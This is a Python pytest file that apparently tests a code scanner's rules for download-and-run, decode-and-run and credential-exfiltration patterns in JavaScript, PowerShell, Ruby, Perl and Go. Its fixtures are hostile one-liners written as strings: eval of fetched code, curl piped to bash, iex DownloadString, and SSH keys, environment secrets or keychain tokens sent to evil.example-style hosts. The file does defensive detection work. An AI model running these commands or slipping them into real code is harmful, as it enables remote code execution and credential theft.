"""JavaScript/TypeScript, PowerShell, Ruby and Perl read by the linear token matcher."""
from __future__ import annotations

import pytest

from scanner.models import Severity
from script_helpers import script_rules, top


@pytest.mark.parametrize("path,text", [
    ("index.js", "fetch('https://evil.example/p').then(r => r.text()).then(eval);\n"),
    ("index.js", "const https = require('https');\nhttps.get(u, res => { let d=''; res.on('data', c => d += c); res.on('end', () => eval(d)); });\n"),
    ("index.ts", "const code = await (await fetch(url)).text();\nnew Function(code)();\n"),
    ("index.js", "require('child_process').execSync('curl -s https://evil.example/a | bash');\n"),
    ("install.ps1", "iex (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\n"),
    ("install.ps1", "Invoke-WebRequest https://evil.example/b.ps1 -UseBasicParsing | Invoke-Expression\n"),
    ("tool.rb", "require 'net/http'\neval(Net::HTTP.get(URI('https://evil.example/r.rb')))\n"),
])
def test_download_and_run(path, text):
    assert top(path, text, "IG701") in (Severity.HIGH, Severity.CRITICAL)


@pytest.mark.parametrize("path,text", [
    ("index.js", "eval(atob('YWxlcnQoMSk='));\n"),
    ("index.js", "const p = Buffer.from(blob, 'base64').toString();\nnew Function(p)();\n"),
    ("install.ps1", "$s = [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))\nInvoke-Expression $s\n"),
    ("tool.pl", "use MIME::Base64;\neval(decode_base64($blob));\n"),
])
def test_decode_and_run(path, text):
    assert top(path, text, "IG702") == Severity.CRITICAL


@pytest.mark.parametrize("path,text", [
    ("index.js", "const c = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://evil.example', {method: 'POST', body: c});\n"),
    ("index.js", "const env = JSON.stringify(process.env);\naxios.post('https://evil.example/e', env);\n"),
    ("index.js", "const k = process.env.AWS_SECRET_ACCESS_KEY;\nfetch('https://evil.example/?k=' + k);\n"),
])
def test_credentials_to_network(path, text):
    assert top(path, text, "IG703") in (Severity.HIGH, Severity.CRITICAL)


def test_split_module_name_is_folded():
    assert top("index.js", "const m = require('child_' + 'pro' + 'cess');\n", "IG705") == Severity.HIGH
    assert top("index.js", "const f = '\\x65\\x78\\x65\\x63\\x53\\x79\\x6e\\x63';\n", "IG705") == Severity.HIGH


@pytest.mark.parametrize("path,text", [
    ("index.js", "const r = await fetch('https://api.example.com/v1/items');\nconsole.log(await r.json());\n"),
    ("index.js", "const token = process.env.GITHUB_TOKEN;\nfetch('https://api.github.com/user', {headers: {Authorization: `Bearer ${token}`}});\n"),
    ("index.js", "const { execFileSync } = require('child_process');\nexecFileSync('git', ['status']);\n"),
    ("install.ps1", "Invoke-WebRequest https://example.com/tool.zip -OutFile tool.zip\nExpand-Archive tool.zip\n"),
    ("tool.rb", "data = JSON.parse(File.read('config.json'))\nputs data['name']\n"),
    ("index.js", "const img = Buffer.from(b64, 'base64');\nfs.writeFileSync('a.png', img);\n"),
])
def test_ordinary_code_stays_quiet(path, text):
    assert script_rules(path, text) == set()


def test_shapes_quoted_in_comments_are_not_code():
    text = ("// Catches: 'ev' + 'al', ['e','v','a','l'].join('')\n"
            "/* eval(atob('YWxlcnQoMSk=')) */\n"
            " * fetch(u).then(eval)\n"
            "const url = 'https://example.com'; // fetch it later\n")
    assert script_rules("scanner.js", text) == set()


def test_go_download_fed_to_a_shells_stdin():
    text = ('package main\nimport ("net/http"; "os/exec")\nfunc main() {\n\tresp, _ := http.Get(u)\n'
            '\tcmd := exec.Command("sh")\n\tcmd.Stdin = resp.Body\n\tcmd.Run()\n}\n')
    assert top("main.go", text, "IG701") == Severity.CRITICAL
    quiet = ('package main\nimport ("net/http"; "os/exec"; "strings")\nfunc main() {\n\tresp, _ := http.Get(u)\n\tdefer resp.Body.Close()\n'
             '\tcmd := exec.Command("git", "apply")\n\tcmd.Stdin = strings.NewReader(patch)\n\tcmd.Run()\n}\n')
    assert "IG701" not in script_rules("main.go", quiet)


def test_powershell_credential_copied_archived_and_mailed():
    text = ('$d = Join-Path $env:TEMP "diag"\n$c = Join-Path $env:USERPROFILE ".aws\\credentials"\n'
            'if (Test-Path $c) { Copy-Item $c $d }\nCompress-Archive -Path "$d\\*" -DestinationPath "$d.zip"\n'
            'Send-MailMessage -SmtpServer "smtp.example.net" -To "x@example.net" -Attachments "$d.zip"\n')
    assert top("diag.ps1", text, "IG703") in (Severity.HIGH, Severity.CRITICAL)
    quiet = ('$d = Join-Path $env:TEMP "diag"\nCopy-Item build.log $d\nCompress-Archive -Path "$d\\*" -DestinationPath "$d.zip"\n'
             'Send-MailMessage -SmtpServer "smtp.example.net" -To "x@example.net" -Attachments "$d.zip"\n')
    assert "IG703" not in script_rules("diag.ps1", quiet)


@pytest.mark.parametrize("path,text", [
    # a keychain or secret-store command's output, put into the argument vector of a network tool
    ("sso.pl", "use MIME::Base64;\nmy $out = '';\n$out .= `security find-generic-password -wa github.com`;\n"
               "my $c = encode_base64($out, '');\nsystem('curl', '-s', '-b', \"sid=$c\", 'https://sso.health-x.example/ping');\n"),
    ("check.rb", "require 'base64'\ntok = `gh auth token`.strip\nblob = Base64.strict_encode64(tok)\n"
                 "system('curl', '-s', '-A', \"cli/#{blob}\", 'https://stats.tools-x.example/v')\n"),
    ("warm.js", "const { execSync, spawn } = require('child_process');\nconst t = execSync('secret-tool lookup service git').toString();\n"
                "spawn('wget', ['-q', '--header', 'X-Ctx: ' + Buffer.from(t).toString('hex'), 'https://cache.pkg-x.example/w']);\n"),
])
def test_secrets_in_a_network_tools_argument_vector(path, text):
    sev = top(path, text, "IG703")
    assert sev is not None and sev >= Severity.HIGH


@pytest.mark.parametrize("path,text", [
    ("gh.pl", "system('curl', '-s', '-H', \"Authorization: Bearer $ENV{GITHUB_TOKEN}\", 'https://api.github.com/user');\n"),
    ("dl.js", "const { spawn } = require('child_process');\nspawn('curl', ['-fsSL', 'https://example.com/f.tgz', '-o', out]);\n"),
    ("who.rb", "user = `git config user.email`.strip\nsystem('curl', '-s', \"https://status.example.com/?u=#{user}\")\n"),
])
def test_network_tool_argument_vectors_without_secrets_stay_quiet(path, text):
    sev = top(path, text, "IG703")
    assert sev is None or sev < Severity.HIGH


_OWN_SENDER = (
    "const KEY = process.env.LINEAR_API_KEY;\n"
    "async function linear(query) {\n"
    "  const r = await fetch('https://api.linear.app/graphql', {method: 'POST',\n"
    "    headers: {Authorization: KEY, 'Content-Type': 'application/json'}, body: JSON.stringify({query})});\n"
    "  return (await r.json()).data;\n"
    "}\n"
)


def test_own_sender_called_with_its_results_is_ordinary_api_use():
    """Two helpers that send the vendor's key to the vendor's API, the second called with what the
    first returned and its result written out: the key goes home every time (the helper's body
    names it; the call site names none)."""
    text = (
        "const fs = require('fs').promises;\n"
        "const KEY = process.env.LINEAR_API_KEY;\n"
        "const getIssue = async (id) => {\n"
        "  const r = await fetch('https://api.linear.app/graphql', {method: 'POST',\n"
        "    headers: {Authorization: `Bearer ${KEY}`}, body: JSON.stringify({query: `{ issue(id: \"${id}\") { title description } }`})});\n"
        "  const d = await r.json();\n  return d.data.issue;\n};\n"
        "const listIssues = async () => {\n"
        "  const r = await fetch('https://api.linear.app/graphql', {method: 'POST',\n"
        "    headers: {Authorization: `Bearer ${KEY}`}, body: JSON.stringify({query: '{ issues { nodes { id } } }'})});\n"
        "  const d = await r.json();\n  return d.data.issues.nodes;\n};\n"
        "const run = async () => {\n  const issues = await listIssues();\n  for (const issue of issues) {\n"
        "    const full = await getIssue(issue.id);\n    const out = `${issue.id}.md`;\n"
        "    await fs.writeFile(out, `# ${full.title}\\n\\n${full.description}\\n`, 'utf8');\n  }\n};\nrun();\n"
    )
    assert top("sync.js", text, "IG703") in (None, Severity.LOW)


def test_own_sender_handed_another_secret_stays_critical():
    text = _OWN_SENDER + "await linear(`mutation { note(body: \"${process.env.AWS_SECRET_ACCESS_KEY}\") }`);\n"
    assert top("sync.mjs", text, "IG703") == Severity.CRITICAL
